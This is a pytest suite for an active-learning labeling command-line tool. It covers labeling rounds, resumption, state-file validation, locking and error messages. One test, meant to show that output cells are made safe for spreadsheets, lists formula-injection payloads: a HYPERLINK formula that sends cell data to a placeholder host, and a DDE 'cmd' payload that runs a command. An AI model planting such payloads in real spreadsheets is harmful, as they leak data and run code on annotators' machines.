"""``skralif query`` on the user's own file: rounds, resumption, edits, bad input."""

import csv
import json

import numpy as np
import pytest
import torch
from hypothesis import given, settings
from hypothesis import strategies as st
from sklearn.datasets import load_wine

from skralif.cli import main
from skralif.labeling import default_state_dir, query_file

X_WINE, Y_WINE = load_wine(return_X_y=True)
NAMES = [f"w{i}" for i in range(len(X_WINE))]


def write(path, labels, rows=None, extra=None):
    """The wine data as a CSV: id, note (text), 13 features, label (empty = unlabeled)."""
    rows = range(len(X_WINE)) if rows is None else rows
    with open(path, "w", newline="") as handle:
        out = csv.writer(handle)
        out.writerow(["name", "note", *[f"f{j}" for j in range(13)], "label"])
        for i in rows:
            out.writerow([NAMES[i], f"bottle {i}", *X_WINE[i], labels.get(NAMES[i], "")])
    return path


def label(labels, ids, skip=0):
    """Label all but the last ``skip`` of ``ids`` with the truth."""
    for name in ids[: len(ids) - skip]:
        labels[name] = int(Y_WINE[NAMES.index(name)])


def run(path, **kw):
    """A round without audit rows unless ``audit`` is given (the audit has its own tests)."""
    return query_file(path, "label", **{"id_column": "name", "ignore": ["note"], "n": 8,
                                        "epochs": 5, "audit": 0, **kw})


def read_rows(path):
    with open(path, newline="") as handle:
        return list(csv.DictReader(handle))


def test_rounds_from_zero_labels_resume_from_the_state_folder(tmp_path):
    data = write(tmp_path / "wine.csv", {})
    labels = {}
    first = run(data)
    assert first.round == 1 and first.new_round and len(first.proposed) == 8
    state = json.loads((tmp_path / "wine.skralif" / "state.json").read_text())
    assert state["rounds"][0]["strategy"] == "typiclust"  # no label: cold start
    rows = read_rows(first.to_label)
    assert [r["name"] for r in rows] == first.proposed
    assert [r["rank"] for r in rows] == [str(k) for k in range(1, 9)]
    assert all(r["predicted"] == "" and r["round"] == "1" for r in rows)
    assert rows[0]["note"] == f"bottle {NAMES.index(rows[0]['name'])}"
    label(labels, first.proposed, skip=2)  # two proposals left unlabeled
    write(data, labels)

    second = run(data)
    assert second.round == 2 and second.pending == sorted(first.proposed[-2:],
                                                           key=NAMES.index)
    assert not set(second.proposed) & set(first.proposed)  # never re-proposed as new
    rows = read_rows(second.to_label)
    assert [r["name"] for r in rows] == second.proposed + second.pending
    assert [r["round"] for r in rows] == ["2"] * 8 + ["1"] * 2
    assert [r["rank"] for r in rows[8:]] == ["", ""]
    assert {r["predicted"] for r in rows} <= {"0", "1", "2"}
    assert all(0 < float(r["probability"]) <= 1 for r in rows)
    assert "6 came back labeled" in str(second) and "still unlabeled" in str(second)
    state = json.loads((tmp_path / "wine.skralif" / "state.json").read_text())
    assert state["rounds"][0]["came_back_labeled"] == 6
    assert state["rounds"][1]["strategy"] == "ralif"
    assert state["rounds"][1]["n_labeled"] == 6
    # the weights are skorch's parameter file, loadable without unpickling code
    params = torch.load(tmp_path / "wine.skralif" / "net_params.pt", weights_only=True)
    assert all(isinstance(v, torch.Tensor) for v in params.values())

    label(labels, second.proposed + second.pending)
    write(data, labels)
    third = run(data)
    assert third.round == 3 and third.pending == []
    state = json.loads((tmp_path / "wine.skralif" / "state.json").read_text())
    values = [r["stopping_value"] for r in state["rounds"]]
    assert values[0] is None and values[1] is None and 0 <= values[2] <= 1
    assert state["rounds"][2]["cv_folds"] >= 2


def test_a_run_with_no_new_label_trains_and_writes_nothing(tmp_path):
    data = write(tmp_path / "wine.csv", {})
    first = run(data)
    folder = tmp_path / "wine.skralif"
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    again = run(data)
    assert not again.new_round and again.round == 1
    assert again.pending == sorted(first.proposed, key=NAMES.index)
    assert "No label was added" in str(again)
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before


def test_a_file_edited_between_runs(tmp_path):
    data = write(tmp_path / "wine.csv", {})
    first = run(data)
    labels = {}
    label(labels, first.proposed[:5])
    # rows deleted (two proposals among them) and the file reordered: ids still match
    gone = set(first.proposed[5:7])
    keep = [i for i in range(len(NAMES))[::-1] if NAMES[i] not in gone]
    write(data, labels, rows=keep)
    second = run(data)
    assert "2 proposed row(s) are no longer in the file" in str(second)
    assert second.pending == [first.proposed[7]]
    state = json.loads((tmp_path / "wine.skralif" / "state.json").read_text())
    assert state["rounds"][1]["n_labeled"] == 5


def test_row_numbers_are_the_ids_without_an_id_column(tmp_path):
    data = write(tmp_path / "wine.csv", {NAMES[0]: 0, NAMES[100]: 1})
    report = query_file(data, "label", ignore=["name", "note"], n=4, epochs=5,
                        state_dir=tmp_path / "project")
    assert all(isinstance(i, int) for i in report.proposed)
    assert not {0, 100} & set(report.proposed)
    rows = read_rows(tmp_path / "project" / "to_label.csv")
    assert list(rows[0])[:7] == ["row", "rank", "purpose", "round", "predicted", "probability",
                                 "score"]
    assert rows[0]["name"] == NAMES[int(rows[0]["row"])]  # the row's own columns follow


def test_string_labels_and_the_command_line(tmp_path, capsys):
    data = tmp_path / "wine.csv"
    write(data, {NAMES[i]: ["red", "white", "rose"][Y_WINE[i]] for i in range(0, 178, 9)})
    args = [str(data), "--target", "label", "--id", "name", "--ignore", "note", "--n", "5",
            "--epochs", "5", "--seed", "3"]
    assert main(["query", *args]) == 0
    out = capsys.readouterr().out
    assert "Round 1 of wine.csv: 20 of 178 rows labeled" in out
    assert "Cross-validated accuracy on the labeled rows" in out
    rows = read_rows(default_state_dir(data) / "to_label.csv")
    # the 5 proposals, then the 5 audit rows of the default --audit (no prediction shown)
    assert [r["purpose"] for r in rows] == ["query"] * 5 + ["audit"] * 5
    assert {r["predicted"] for r in rows[:5]} <= {"red", "white", "rose"}
    assert {r["predicted"] + r["probability"] + r["score"] for r in rows[5:]} == {""}
    state = json.loads((default_state_dir(data) / "state.json").read_text())
    assert state["rounds"][0]["seed"] == 3


def test_interrupted_training_leaves_the_project_as_it_was(tmp_path, monkeypatch):
    data = write(tmp_path / "wine.csv", {})
    first = run(data)
    labels = {}
    label(labels, first.proposed)
    write(data, labels)
    folder = tmp_path / "wine.skralif"
    before = {p.name: p.read_bytes() for p in folder.iterdir()}

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr("skralif.labeling._round.cross_validated_accuracy", interrupted)
    with pytest.raises(KeyboardInterrupt):
        run(data)
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before
    monkeypatch.undo()
    assert run(data).round == 2


def test_excel_csv_with_a_byte_order_mark_and_crlf(tmp_path):
    data = tmp_path / "excel.csv"
    rows = ["id,a,b,label"] + [f"r{i},{i % 7},{i % 3},{'x' if i < 3 else ''}" for i in range(30)]
    data.write_bytes(("\ufeff" + "\r\n".join(rows) + "\r\n").encode("utf-8"))
    report = query_file(data, "label", id_column="id", n=3, epochs=2)
    assert len(report.proposed) == 3 and report.proposed[0].startswith("r")


def test_parquet(tmp_path):
    pa = pytest.importorskip("pyarrow")
    pq = pytest.importorskip("pyarrow.parquet")
    y = np.where(np.arange(178) % 10 == 0, Y_WINE, np.nan)  # pandas writes missing as NaN
    table = {f"f{j}": X_WINE[:, j] for j in range(13)}
    pq.write_table(pa.table({**table, "label": y}), tmp_path / "wine.parquet")
    report = query_file(tmp_path / "wine.parquet", "label", n=4, epochs=5)
    rows = [r for r in read_rows(report.to_label) if r["purpose"] == "query"]
    assert {r["predicted"] for r in rows} <= {"0", "1", "2"}  # 1.0 read as class 1


@pytest.mark.parametrize("change, message", [
    (dict(target="nope"), "`target` 'nope' is not a column of"),
    (dict(id_column="nope"), "`id_column` 'nope' is not a column of"),
    (dict(ignore=[]), "not numeric: 'note' (line 2: 'bottle 0'). Drop them from the features "
                      "with `ignore` note"),
    (dict(n=0), "`n` must be a positive integer; got 0"),
    (dict(epochs=-1), "`epochs` must be a positive integer; got -1"),
    (dict(strategy="best"), "`strategy` 'best' is not a strategy; choose from"),
    (dict(id_column="label"), "`id_column` and `target` name the same column"),
])
def test_bad_options_are_named_before_anything_is_created(tmp_path, change, message):
    data = write(tmp_path / "wine.csv", {})
    kw = dict(target="label", id_column="name", ignore=["note"], n=4, epochs=5)
    with pytest.raises(ValueError, match=None) as err:
        query_file(data, **{**kw, **change})
    assert message in str(err.value)
    assert not default_state_dir(data).exists()


@pytest.mark.parametrize("content, message", [
    ("", "is empty"),
    ("name,f0,label\n", "has a header but no data rows"),
    ("name,f0,label\na,1,x\nb,2\n", "line 3: 2 fields, but the header has 3"),
    ("name,f0,label\na,,x\n", "line 2, column 'f0': the cell is empty"),
    ("name,f0,label\na,1e39,x\n", "is not a finite float32 number"),
    ("name,f0,label\na,1,x\na,2,\n", "lines 2 and 3: id 'a' of column 'name' appears twice"),
    ("name,f0,label\n,1,x\n", "line 2: the --id column 'name' is empty"),
    ("name,f0,f0,label\na,1,2,x\n", "the header repeats column(s) ['f0']"),
    ('name,f0,label\na,"1,x\n', "malformed CSV"),
])
def test_bad_files_get_one_line_naming_them(tmp_path, capsys, content, message):
    data = tmp_path / "bad.csv"
    data.write_text(content)
    assert main(["query", str(data), "--target", "label", "--id", "name"]) == 2
    err = capsys.readouterr().err
    assert message in err and str(data) in err and err.count("\n") == 1
    assert not default_state_dir(data).exists()


def test_other_files_and_state_folders(tmp_path, capsys):
    data = write(tmp_path / "wine.csv", {})
    for argv, message in [
        ([str(tmp_path / "wine.txt")], "is not a file"),
        ([str(tmp_path)], "is not a file"),
        ([str(data), "--state", str(data)], "is a file; it must be a folder"),
        ([str(data), "--n", "0"], "--n: must be a positive integer"),
        ([str(data), "--seed", "-1"], "--seed: must be a non-negative integer"),
    ]:
        try:
            status = main(["query", *argv, "--target", "label", "--id", "name"])
        except SystemExit as exit_:  # argparse's own refusals
            status = exit_.code
        assert status == 2
        assert message in capsys.readouterr().err
    (tmp_path / "wine.tsv").write_text("a\tb\n")
    with pytest.raises(ValueError, match="must be a .csv or .parquet file; got a .tsv file"):
        query_file(tmp_path / "wine.tsv", "label")


@pytest.mark.parametrize("argv, message", [
    (["--target", "nope", "--id", "name"], "--target 'nope' is not a column of"),
    (["--target", "label", "--id", "label"], "--id and --target name the same column"),
    (["--target", "label", "--id", "name", "--ignore", "f0"], "with --ignore note"),
])
def test_the_command_line_names_its_flags_where_the_library_names_arguments(
        tmp_path, capsys, argv, message):
    """Issue 21: library errors named command-line flags; the CLI now translates."""
    data = write(tmp_path / "wine.csv", {})
    assert main(["query", str(data), *argv]) == 2
    err = capsys.readouterr().err
    assert message in err and "`" not in err.split(str(data))[0], err


def test_the_project_must_stay_the_same(tmp_path):
    data = write(tmp_path / "wine.csv", {})
    run(data)
    with pytest.raises(ValueError, match="is the project of `target` 'label'; got `target`"):
        query_file(data, "f0", id_column="name", ignore=["note", "label"])
    with pytest.raises(ValueError, match="is the project of `ignore`"):
        run(data, ignore=["note", "f3"])
    text = data.read_text().splitlines()
    data.write_text("\n".join([text[0] + ",f13"] + [line + ",1" for line in text[1:]]))
    with pytest.raises(ValueError, match="The feature columns changed"):
        run(data)
    write(data, {})
    state = tmp_path / "wine.skralif" / "state.json"
    state.write_text("{not json")
    with pytest.raises(ValueError, match="is not a skralif state file"):
        run(data)
    state.write_text("[]")
    with pytest.raises(ValueError, match="is not a skralif state file"):
        run(data)


FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A137)', "=cmd|' /C calc'!A0", "+1+2",
            "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "'=quoted"]


def test_to_label_csv_writes_no_formula_and_reads_back_the_users_values(tmp_path):
    """Issue 22: ids, notes and column names from the user's file were written verbatim,
    so an annotator's spreadsheet ran them as formulas."""
    from skralif._csv import FORMULA_STARTS, from_spreadsheet_safe

    data = tmp_path / "wine.csv"
    notes = {i: FORMULAS[i % len(FORMULAS)] for i in range(len(X_WINE))}
    with open(data, "w", newline="") as handle:
        out = csv.writer(handle)
        out.writerow(["name", "=note", *[f"f{j}" for j in range(13)], "label"])
        for i in range(len(X_WINE)):
            out.writerow([f"{FORMULAS[i % len(FORMULAS)]}#{i}", notes[i], *X_WINE[i], ""])
    report = query_file(data, "label", id_column="name", ignore=["=note"], n=20, epochs=5)
    with open(report.to_label, newline="") as handle:
        rows = list(csv.reader(handle))
    for cell in (c for row in rows for c in row):
        assert not cell.startswith(FORMULA_STARTS) or float(cell) == float(cell), cell
    header = [from_spreadsheet_safe(c) for c in rows[0]]
    assert header[0] == "name" and "=note" in header
    for row in rows[1:]:
        values = dict(zip(header, (from_spreadsheet_safe(c) for c in row), strict=True))
        i = int(values["name"].rsplit("#", 1)[1])
        assert values["name"] == f"{FORMULAS[i % len(FORMULAS)]}#{i}".strip()  # ids: stripped
        assert values["=note"] == notes[i]


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_spreadsheet_safe_cells_are_text_and_exactly_reversible(text):
    from skralif._csv import FORMULA_STARTS, from_spreadsheet_safe, spreadsheet_safe

    safe = spreadsheet_safe(text)
    assert from_spreadsheet_safe(safe) == text
    if safe.startswith(FORMULA_STARTS):
        float(safe)  # only plain numbers such as -1.5 keep their sign in front


def _edited(state, edit):
    state = json.loads(json.dumps(state))
    edit(state)
    return state


STATE_EDITS = [
    (lambda s: s.update(rounds={"1": s["rounds"][0]}), "`rounds` must be a list"),
    (lambda s: s["rounds"][0].pop("proposed"), "`rounds[0].proposed` must be a list of row"),
    (lambda s: s.pop("labeled_ids"), "lacks ['labeled_ids']"),
    (lambda s: s.update(settings=None), "`settings` must be an object; got NoneType"),
    (lambda s: s["stopping"]["predictions"].pop(),
     "`stopping.predictions` must hold one label per row"),
    (lambda s: s["rounds"][0].update(round="one"), "`rounds[0].round` must be a round number"),
    (lambda s: s["rounds"][0].update(round=True), "`rounds[0].round` must be a round number"),
    (lambda s: s["rounds"][1].update(round=7), "`rounds[1].round` must be 2"),
    (lambda s: s["stopping"].update(values=["x"]), "`stopping.values[0]` must be numbers"),
    (lambda s: s["settings"].update(ignore="note"), "`settings.ignore` must be a list"),
    (lambda s: s["rounds"][0].update(audit_drawn="w3"),
     "`rounds[0].audit_drawn` must be a list of row ids"),
    (lambda s: s["rounds"][0].update(audit_drawn=[1.5]),
     "`rounds[0].audit_drawn[0]` must be row ids"),
]


def three_rounds(tmp_path):
    """A project three rounds in, every proposal of the first two labeled."""
    data = write(tmp_path / "wine.csv", {})
    labels = {}
    for _ in range(2):
        label(labels, run(data).proposed)
        write(data, labels)
    run(data)
    return data, labels


@pytest.mark.parametrize("edit, message", STATE_EDITS)
def test_a_hand_edited_state_gets_one_line_naming_the_key(tmp_path, capsys, edit, message):
    """Issue 22: seven such edits gave tracebacks."""
    data, labels = three_rounds(tmp_path)
    path = default_state_dir(data) / "state.json"
    good = json.loads(path.read_text())
    path.write_text(json.dumps(_edited(good, edit)))
    before = {p.name: p.read_bytes() for p in path.parent.iterdir()}
    status = main(["query", str(data), "--target", "label", "--id", "name", "--ignore", "note",
                   "--n", "8", "--epochs", "5"])
    err = capsys.readouterr().err
    assert status == 2 and message in err and err.count("\n") == 1, err
    assert {p.name: p.read_bytes() for p in path.parent.iterdir()} == before


def test_a_state_nested_too_deeply_is_one_line(tmp_path, capsys):
    data = write(tmp_path / "wine.csv", {})
    run(data)
    path = default_state_dir(data) / "state.json"
    path.write_text("[" * 200_000 + "]" * 200_000)
    assert main(["query", str(data), "--target", "label", "--id", "name"]) == 2
    err = capsys.readouterr().err
    assert "nested too deeply" in err and err.count("\n") == 1


@settings(max_examples=40, deadline=None)
@given(key=st.sampled_from(["data", "settings", "rounds", "labeled_ids", "stopping", "model"]),
       value=st.recursive(st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False)
                          | st.text(max_size=5),
                          lambda inner: st.lists(inner, max_size=3)
                          | st.dictionaries(st.text(max_size=5), inner, max_size=3),
                          max_leaves=6))
def test_any_value_of_a_top_level_key_is_read_or_refused_in_one_line(tmp_path_factory, key,
                                                                     value):
    from skralif.labeling._state import load_state

    folder = tmp_path_factory.mktemp("state")
    state = {"skralif_state": 1, "data": "wine.csv",
             "settings": {"target": "label", "id": "name", "ignore": ["note"],
                          "features": ["f0"]},
             "rounds": [], "labeled_ids": [], "stopping": None, "model": None, key: value}
    (folder / "state.json").write_text(json.dumps(state))
    try:
        load_state(folder)
    except ValueError as err:
        assert "\n" not in str(err) and "state.json" in str(err)


@pytest.mark.parametrize("labels, expected", [
    (["01", "1"], {"01", "1"}),      # issue 22: merged into class 1
    (["²", "3"], {"²", "3"}),        # issue 22: int()'s message, no file, line or column
    (["3", "-1", "0"], {3, -1, 0}),  # canonical integers stay integers
])
def test_labels_are_integers_only_when_every_one_is_written_as_one(tmp_path, labels, expected):
    from skralif.labeling._table import read_table

    data = tmp_path / "cells.csv"
    rows = "\n".join(f"{i},{i % 7},{labels[i % len(labels)] if i < 12 else ''}"
                     for i in range(30))
    data.write_text("name,f0,label\n" + rows + "\n")
    table = read_table(data, "label", id_column="name")
    assert {v for v in table.y if v is not None} == expected


def test_a_second_round_on_a_held_project_is_refused_naming_the_holder(tmp_path, capsys):
    """Issue 22: two skralif query runs on one project both exited 0 and a round vanished."""
    import subprocess
    import sys

    data = write(tmp_path / "wine.csv", {})
    folder = default_state_dir(data)
    folder.mkdir()
    holder = subprocess.Popen(
        [sys.executable, "-c", "import sys, time\n"
         "from skralif.labeling._state import project_lock\n"
         f"with project_lock({str(folder)!r}):\n    print('held', flush=True)\n"
         "    time.sleep(60)"], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        status = main(["query", str(data), "--target", "label", "--id", "name", "--ignore",
                       "note", "--epochs", "5"])
        err = capsys.readouterr().err
        assert status == 2 and f"pid {holder.pid}" in err and "--state" in err, err
        assert not (folder / "state.json").exists()
    finally:
        holder.kill()
        holder.wait()
    assert run(data).round == 1  # released when its holder died


def test_the_nets_weights_are_replaced_whole_or_not_at_all(tmp_path, monkeypatch):
    from skorch import NeuralNet

    data, labels = three_rounds(tmp_path)
    folder = default_state_dir(data)
    before = {p.name: p.read_bytes() for p in folder.iterdir() if p.name != ".lock"}
    assert "net_params.pt" in before
    label(labels, [r["name"] for r in read_rows(folder / "to_label.csv")])
    write(data, labels)

    def interrupted(self, f_params=None, **kwargs):
        if f_params is not None:
            with open(f_params, "wb") as handle:
                handle.write(b"half a file")
            raise KeyboardInterrupt

    monkeypatch.setattr(NeuralNet, "save_params", interrupted)
    with pytest.raises(KeyboardInterrupt):
        run(data)
    # the round did not happen: every file as it was, and no temporary file left
    assert {p.name: p.read_bytes() for p in folder.iterdir() if p.name != ".lock"} == before


def test_a_to_label_csv_that_is_a_folder_is_named_before_training(tmp_path, monkeypatch):
    """Issue 22: it was found only after the net had trained."""
    data = write(tmp_path / "wine.csv", {})
    (default_state_dir(data) / "to_label.csv").mkdir(parents=True)

    def trained(*args, **kwargs):
        raise AssertionError("trained before the folder was checked")

    monkeypatch.setattr("skralif.labeling._round.propose", trained)
    with pytest.raises(ValueError, match=r"to_label.csv is not a file; skralif writes"):
        run(data)


def test_unclear_errors_of_the_command_line_are_clear(tmp_path, capsys):
    """Issue 22: an all-labeled file said "Found array with 0 sample(s)", --seed 2**40
    named `random_state`, and --strategy bald suggested an option query does not have."""
    data = tmp_path / "all.csv"
    write(data, {name: int(label) for name, label in zip(NAMES, Y_WINE, strict=True)})
    argv = ["query", str(data), "--target", "label", "--id", "name", "--ignore", "note",
            "--epochs", "3"]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert "Every row of" in err and "nothing is left to propose" in err and \
        err.count("\n") == 1 and not default_state_dir(data).exists()
    some = write(tmp_path / "some.csv", {})
    with pytest.raises(SystemExit):
        main(["query", str(some), "--target", "label", "--seed", str(2**40)])
    assert "--seed: must be a non-negative integer below 2**32" in capsys.readouterr().err
    with pytest.raises(ValueError, match=r"`seed` must be an integer from 0 to 4294967295"):
        run(some, seed=2**40)


def test_bald_labels_with_the_dropout_it_samples(tmp_path):
    data = write(tmp_path / "wine.csv", {})
    labels = {}
    label(labels, run(data).proposed)
    write(data, labels)
    report = run(data, strategy="bald")
    assert report.round == 2 and len(report.proposed) == 8


def test_audit_rows_are_listed_without_prediction_held_out_and_estimate_the_accuracy(
        tmp_path, capsys):
    labels = {NAMES[i]: int(Y_WINE[i]) for i in range(0, 178, 12)}  # 15 rows, 3 classes
    data = write(tmp_path / "wine.csv", labels)
    first = run(data, audit=5)
    rows = read_rows(first.to_label)
    assert [r["purpose"] for r in rows] == ["query"] * 8 + ["audit"] * 5
    assert {r["predicted"] + r["probability"] + r["score"] for r in rows[8:]} == {""}
    assert any("no audit label yet" in line for line in first.lines)
    state = json.loads((tmp_path / "wine.skralif" / "state.json").read_text())
    audit = state["rounds"][0]["audit_drawn"]
    assert [r["name"] for r in rows[8:]] == audit and not set(audit) & set(first.proposed)
    label(labels, [r["name"] for r in rows])
    write(data, labels)
    second = run(data, audit=5)
    state = json.loads((tmp_path / "wine.skralif" / "state.json").read_text())
    record = state["rounds"][1]
    # the audit labels are not trained on: 15 + 8 training labels, 5 held out
    assert record["n_labeled"] == 23 and record["n_audit"] == 5
    assert record["accuracy_low"] <= record["accuracy_estimate"] <= record["accuracy_high"]
    assert second.lines[0] == ("Round 1 proposed 8 rows; 8 came back labeled, and 5 audit "
                               "rows, 5 labeled.")
    at = next(i for i, line in enumerate(second.lines) if line.startswith("Round 2 of"))
    head, estimate, cv = second.lines[at:at + 3]
    assert "28 of 178 rows labeled" in head and "5 more held out as audit rows" in head
    assert estimate.startswith("Estimated accuracy on the unlabeled rows: ")
    assert "from 5 audit labels drawn at random" in estimate
    assert "biased, often low" in cv  # the cross-validated figure, demoted
    with pytest.raises(SystemExit) as stop:
        main(["query", str(data), "--target", "label", "--id", "name", "--ignore", "note",
              "--epochs", "2", "--audit", "-1"])
    assert stop.value.code == 2
    assert "--audit: must be an integer >= 0" in capsys.readouterr().err


def test_an_audit_row_the_strategy_picks_trains_without_being_asked_again(tmp_path):
    subset = [i for k in range(3) for i in np.flatnonzero(Y_WINE == k)[:8]]  # 24 rows
    labels = {NAMES[i]: int(Y_WINE[i]) for i in subset[::4]}  # 6 labeled, 2 per class
    data = write(tmp_path / "wine.csv", labels, rows=subset)
    first = run(data, audit=5)  # 8 picks of 18, then 5 audit rows of the other 10
    label(labels, [r["name"] for r in read_rows(first.to_label)])
    write(data, labels, rows=subset)
    second = run(data, audit=5)  # 10 rows unlabeled to the learner, 5 of them audit rows
    state = json.loads((tmp_path / "wine.skralif" / "state.json").read_text())
    held = set(state["rounds"][0]["audit_drawn"])
    picked_audit = held & set(second.proposed)
    assert len(picked_audit) >= 3  # 8 picks from 10 candidates
    assert any(f"{len(picked_audit)} of the picks are audit rows labeled already" in line
               for line in second.lines)
    listed = {r["name"] for r in read_rows(second.to_label)}
    assert not picked_audit & listed  # nothing to do for them
    third = run(data, audit=5)  # no new label in the file: the promoted rows still train
    assert third.new_round
    state = json.loads((tmp_path / "wine.skralif" / "state.json").read_text())
    assert state["rounds"][2]["n_labeled"] == state["rounds"][1]["n_labeled"] + len(
        picked_audit)


def test_proposals_say_what_rank_score_and_probability_mean(tmp_path):
    labels = {NAMES[i]: int(Y_WINE[i]) for i in range(0, 178, 12)}
    data = write(tmp_path / "wine.csv", labels)
    for _ in range(3):  # label everything listed: 5 audit labels a round
        report = run(data, audit=5)
        rows = read_rows(report.to_label)
        label(labels, [r["name"] for r in rows])
        write(data, labels)
    state = json.loads((tmp_path / "wine.skralif" / "state.json").read_text())
    assert state["rounds"][1]["temperature"] is None  # 5 audit labels: too few
    assert state["rounds"][2]["temperature"] > 0  # 10: probabilities are scaled
    explained = next(line for line in report.lines if line.startswith("In to_label.csv: "))
    assert "rank is the strategy's batch order" in explained
    assert ("temperature-scaled on the audit labels (T = " in explained
            or "unscaled (on the audit labels, cross-validated" in explained)
    scores = [float(r["score"]) for r in rows if r["purpose"] == "query"]
    assert all(0 < s <= 100 for s in scores)  # percentiles, the same scale every round
    probability = [float(r["probability"]) for r in rows if r["purpose"] == "query"]
    assert all(0 < p <= 1 for p in probability)


def test_audit_rows_deleted_from_the_file_are_left_out(tmp_path):
    labels = {NAMES[i]: int(Y_WINE[i]) for i in range(0, 178, 12)}
    data = write(tmp_path / "wine.csv", labels)
    first = run(data, audit=5)
    rows = read_rows(first.to_label)
    label(labels, [r["name"] for r in rows])
    audit = [r["name"] for r in rows if r["purpose"] == "audit"]
    kept = [i for i in range(178) if NAMES[i] not in audit[:2]]  # two audit rows deleted
    write(data, labels, rows=kept)
    second = run(data, audit=5)
    state = json.loads((tmp_path / "wine.skralif" / "state.json").read_text())
    assert state["rounds"][1]["n_audit"] == 3  # the deleted rows' draws no longer count
    assert second.new_round


def test_a_round_with_every_row_labeled_proposes_nothing():
    """Found by the Label Studio image test: a project whose every task is labeled crashed
    the round ("X_pool: Found array with 0 sample(s)")."""
    from skralif.labeling._round import run_round

    X = np.random.default_rng(0).normal(size=(12, 3)).astype(np.float32)
    y = np.array(["a", "b"] * 6, dtype=object)
    done = run_round(X, y, 5, epochs=3)
    assert done.n_labeled == 12 and len(done.proposal.picks) == 0
    assert done.proposal.learner is not None and len(done.proposal.predicted) == 0
